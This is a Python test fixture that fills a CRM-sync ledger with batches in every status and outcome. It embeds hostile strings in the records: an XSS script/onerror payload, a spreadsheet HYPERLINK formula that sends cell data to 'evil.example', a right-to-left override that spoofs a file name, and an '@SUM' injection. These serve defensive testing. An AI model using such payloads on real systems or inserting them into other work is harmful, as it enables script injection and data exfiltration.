"""A ledger filled through the store's own functions: every status and outcome, and the hostile texts that records hold."""

from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from typing import Any

import time_machine

from lockstep.model import Action, BatchStatus, Change, Operation, OutcomeKind, Pair, PairState, Step, Window
from lockstep.store import Store, ledger
from lockstep.store.pairs import rows as pairs

SCRIPT = "<script>document.title='owned'</script><img src=x onerror=alert(1)>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
RIGHT_TO_LEFT = "\u202egnp.exe \u0634\u0631\u0643\u0629 \u05d7\u05d1\u05e8\u05d4"
LONG = "Fault: " + "x" * 4990 + "END"
#: personal data in before and after: must never leave the ledger
SECRET = "ola.nordmann@private.example"

RUN = f"{Step.PUSH_UPDATES}:cycle__scheduled__2026-11-22T04:00:00+00:00"


@dataclass
class Filled:
    """`ids`: batches by a short name; `now`: when the newest began."""

    store: Store
    now: datetime
    ids: dict[str, int] = field(default_factory=dict)


def fill(store: Store, now: datetime | None = None) -> Filled:
    """Nine batches of two cycles' runs, one of them six days old."""
    made = Filled(store, now or datetime.now(UTC))
    pull = f"{Step.PULL_UPDATES}:manual__2026-11-22T03:00:00+00:00"
    with store.writing() as tx:
        for run_id, step in ((RUN, Step.PUSH_UPDATES), (pull, Step.PULL_UPDATES)):
            ledger.open_run(tx, run_id, step, "scheduled", Window(None, made.now), "hash", run_id.split(":", 1)[1])
    add = _Adder(made, RUN)
    add("old", 6 * 24 * 60, "hubspot", "deals", Operation.PUSH_NEW, read=7, new=7)
    add("empty", 50, "salesforce", "Lead", Operation.PULL_DELETES, run_id=pull)
    add("pulled", 49, "salesforce", "Contact", Operation.PULL_UPDATES, run_id=pull, read=6000, new=5500, skipped=500)
    add("done", 40, "salesforce", "Account", Operation.PUSH_NEW, read=199, new=199)
    add("cleaned", 35, "hubspot", "companies", Operation.PUSH_DELETES, status=BatchStatus.CLEANED_UP)
    add("hostile", 30, "hubspot", "contacts", Operation.PUSH_UPDATES, items=_hostile(), read=7, updated=1, failed=4, held=1, deferred=1, fields_failed=1)  # fmt: skip
    add("failed", 20, "salesforce", "Lead", Operation.PUSH_UPDATES, status=BatchStatus.FAILED, error=("authentication", f"INVALID_SESSION {SCRIPT}"), api_calls=1)  # fmt: skip
    add("odd", 10, "salesforce", f"{SCRIPT}__c", Operation.PUSH_UPDATES, read=3, updated=2, skipped=1)
    add("running", 1, "hubspot", "contacts", Operation.UPDATE_FKS, status=BatchStatus.IN_PROCESS, read=40, updated=40)
    return made


@dataclass
class _Adder:
    made: Filled
    run: str

    def __call__(
        self, name: str, minutes: float, system: str, object: str, operation: Operation, status: BatchStatus | None = None,
        run_id: str = "", items: list[dict[str, Any]] | None = None, error: tuple[str, str] | None = None, **counts: int,
    ) -> None:  # fmt: skip
        began = self.made.now - timedelta(minutes=minutes)
        with self.made.store.writing() as tx, time_machine.travel(began, tick=False):
            window = Window(began - timedelta(minutes=15), began)
            batch_id = ledger.open_batch(tx, run_id or self.run, system, object, operation, window, entity="people")
            self.made.ids[name] = batch_id
            ledger.add_counts(tx, batch_id, **counts)
            insert(self.made.store, tx, batch_id, items or [])
        if status is not BatchStatus.IN_PROCESS:
            with self.made.store.writing() as tx, time_machine.travel(began + timedelta(seconds=9), tick=False):
                ledger.close_batch(tx, batch_id, status, *(error or ()))


def insert(store: Store, tx: Any, batch_id: int, items: list[dict[str, Any]]) -> None:
    """Changes, and the pairs that they belong to."""
    ids = [f"pair-{batch_id}-{number}" for number, _ in enumerate(items)]
    pairs.insert(tx, [_pair(pair_id, number) for number, pair_id in enumerate(ids)])
    ledger.insert_changes(tx, [_change(batch_id, pair_id, one) for pair_id, one in zip(ids, items, strict=True)])


def _pair(pair_id: str, number: int) -> Pair:
    ids = {"sf_id": f"003{pair_id}{number}", "hs_id": f"9{pair_id}{number}"}
    return Pair(id=pair_id, entity="people", sf_object="Contact", hs_object="contacts", sf_base={}, hs_base={}, state=PairState.LINKED, **ids)  # fmt: skip


def _change(batch_id: int, pair_id: str, item: dict[str, Any]) -> Change:
    values = {"email": SECRET, "lastname": "Nordmann"}
    return Change(
        id=0, batch_id=batch_id, pair_id=pair_id, system="hubspot", object="contacts",
        before=values, after=values, why={"email": "two_way"}, lost={"phone": "+47 22 22 22 22"},
        **{"record_id": pair_id, "action": Action.UPDATE, **item},
    )  # fmt: skip


def _hostile() -> list[dict[str, Any]]:
    def failed(message: str, **more: Any) -> dict[str, Any]:
        detail = {"message": message, "vendor_code": "INVALID", "fields": ["email"]}
        return {"outcome": OutcomeKind.FAILED, "code": "vendor_refused", "detail": detail, **more}

    rejected = {"field": "industry", "code": "picklist_value", "message": f"'{SCRIPT}' has no counterpart."}
    candidates = [{"system": "salesforce", "object": "Contact", "id": "003A", "pair": None}]
    return [
        failed(SCRIPT),
        failed(FORMULA, record_id="@SUM(1+1)"),
        failed(RIGHT_TO_LEFT),
        failed(LONG),
        {"outcome": OutcomeKind.HELD, "code": "ambiguous_match", "detail": {"candidates": candidates}},
        {"outcome": OutcomeKind.DEFERRED, "code": "stale", "detail": None},
        {"outcome": OutcomeKind.UPDATED, "detail": {"fields": [rejected]}},
    ]
